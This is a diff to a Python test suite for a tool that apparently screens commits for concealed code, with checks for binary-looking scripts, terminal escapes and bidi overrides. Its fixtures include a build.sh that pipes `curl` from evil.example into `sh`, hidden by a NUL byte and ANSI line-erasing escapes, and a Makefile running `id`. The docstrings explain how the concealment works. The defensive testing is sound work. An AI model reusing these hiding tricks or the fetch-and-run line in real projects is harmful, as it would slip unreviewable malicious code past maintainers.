@@ -4880,7 +4880,8 @@ def test_escapes_in_one_of_its_commits_ask_for_force_though_the_file_ends_binary
     base, tip = _commits(repo, [{"app.py": b"import os; os.system('id')\n", "zz.txt": fake},
                                 {"zz.txt": fake + b"\0"}])
     why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
-    assert any("terminal escapes or bidi overrides" in w for w in why), why
+    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
+               for w in why), why  # (either refuses it: round 65 asks for any binary file)
 
 
 def test_escapes_added_then_removed_ask_for_force(repo):
@@ -5037,7 +5038,8 @@ def test_escapes_first_shown_as_removed_or_unchanged_lines_ask_for_force(repo, s
     tip = git("rev-parse", "HEAD", cwd=repo)
     git("checkout", "-q", "-", cwd=repo)
     why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
-    assert any("terminal escapes or bidi overrides" in w for w in why), why
+    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
+               for w in why), why  # (either refuses it: round 65 asks for any binary file)
 
 
 def test_your_own_escapes_beside_a_change_ask_nothing(repo):
@@ -5136,7 +5138,8 @@ def test_escapes_only_ever_in_binary_patches_ask_for_force(repo):
     tip = git("rev-parse", "HEAD", cwd=repo)
     git("checkout", "-q", "-", cwd=repo)
     why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
-    assert any("terminal escapes or bidi overrides" in w for w in why), why
+    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
+               for w in why), why  # (either refuses it: round 65 asks for any binary file)
 
 
 @needs_bwrap
@@ -5272,11 +5275,11 @@ def test_compiled_python_in_place_of_a_source_asks_for_force(repo, stand_in):
 
 
 def test_plain_binary_files_ask_nothing(repo):
-    """No false alarm: an image, a PDF, a zip of test data, a font."""
+    """No false alarm: an image, a PDF, a font, a video."""
     base, tip = _commits(repo, [{"docs/logo.png": b"\x89PNG\r\n\x1a\n\0\0", "docs/a.pdf": b"%PDF-1.7\n\0",
-                                 "tests/data.zip": b"PK\x03\x04\0\0", "fonts/f.woff2": b"wOF2\0\1"}])
+                                 "fonts/f.woff2": b"wOF2\0\1", "media/v.mp4": b"\0\0\0\x18ftypmp42\0"}])
     why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
-    assert not any("compiled code" in w for w in why), why
+    assert not any("compiled code" in w or "as binary" in w for w in why), why
 
 
 @pytest.mark.skipif(not ROOT, reason="only a root runner gives files to the sandbox's account")
@@ -5403,13 +5406,22 @@ def test_a_folder_an_editable_install_puts_on_pythons_path_counts(repo, tmp_path
         ap._pth_files.cache_clear()
 
 
-def test_a_script_git_shows_as_binary_asks_for_force(repo):
-    """Round 64: a NUL in a comment made build.sh binary to git (no `git log -p` line of it),
-    and its `ESC[1A ESC[2K` erased the `curl | sh` line from your `cat build.sh`."""
-    base, tip = _commits(repo, [{"build.sh": b"#!/bin/sh\n# generated \0\necho build\n"
-                                             b"curl -s https://evil.example/x | sh # \n# \x1b[1A\x1b[2K\n"}])
+@pytest.mark.parametrize("path, data", [
+    ("build.sh", b"#!/bin/sh\n# generated \0\necho build\ncurl -s https://evil.example/x | sh # \n"
+                 b"# \x1b[1A\x1b[2K\n"),
+    ("Makefile", b"all:\n\t@echo building\n\t@id > /tmp/x\n# \0\n"),
+    ("vendor/helper-1.0.0.tgz", b"\x1f\x8b\x08\0\0\0\0\0"),
+    ("tests/fixtures/data.pkl", b"\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\x08builtins")],
+    ids=["script", "Makefile", "npm tarball", "pickle"])
+def test_a_file_git_shows_as_binary_asks_for_force(repo, path, data):
+    """Rounds 64 and 65: a NUL in a comment made build.sh, a Makefile or index.js binary to
+    git (no `git log -p` line of them), and your shell, make or node ran the lines after it; a
+    vendored tarball npm installs (its postinstall ran) and a pickle your tests load: every
+    diff said `Bin 252 -> 341 bytes`. A file git calls binary asks, but images, fonts, PDFs
+    and media."""
+    base, tip = _commits(repo, [{path: data}])
     why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
-    assert any("script that git shows as binary" in w for w in why), why
+    assert any("a file git shows as binary" in w for w in why), why
 
 
 @needs_bwrap
@@ -5430,3 +5442,39 @@ def test_a_file_changed_between_its_commit_and_its_checks_fails_the_worker(cli, 
                          "bwrap")
     assert r["status"] == "failed" and "changed between its commit and its checks" in r["error"], \
         (r, err)
+
+
+def test_a_byte_order_mark_soft_hyphens_and_coding_words_elsewhere_ask_nothing(repo):
+    """No false alarm (review of the change): a UTF-8 BOM before `using System;`, a soft
+    hyphen in German prose, and a Markdown heading that says `coding: utf-7`."""
+    base, tip = _commits(repo, [{"Program.cs": "\ufeffusing System;\n".encode(),
+                                 "docs/de.md": "Donau\u00addampf\u00adschiff\n".encode(),
+                                 "NOTES.md": b"# Transcoding: utf-7 notes\n"}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert not any("terminal escapes" in w or "coding line" in w for w in why), why
+
+
+# -- review round 65 ---------------------------------------------------------------------------
+
+def test_long_names_do_not_grow_the_runners_memory(repo):
+    """Round 65: 200,000 ignored files under a 3,600-character folder chain (names of 4 KB)
+    took the runner to 2.5 GB: the fingerprint of a worktree held the whole listing four
+    times over. It is read as a stream, 2,000 names at a time (the same fingerprint)."""
+    import tracemalloc
+    (repo / ".gitignore").write_text("deep/\n")
+    folder = os.path.join(str(repo), "deep", *(chr(97 + i) * 250 for i in range(14)))
+    os.makedirs(folder)
+    fd = os.open(folder, os.O_RDONLY)
+    try:
+        for i in range(20_000):
+            os.close(os.open(f"{i:08d}" + "x" * 240, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
+    finally:
+        os.close(fd)
+    found = ap._Repo.find(str(repo))
+    tracemalloc.start()
+    try:
+        found.worktree_state(str(repo))
+        _now, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 60 << 20, f"{peak >> 20} MB for 80 MB of names"
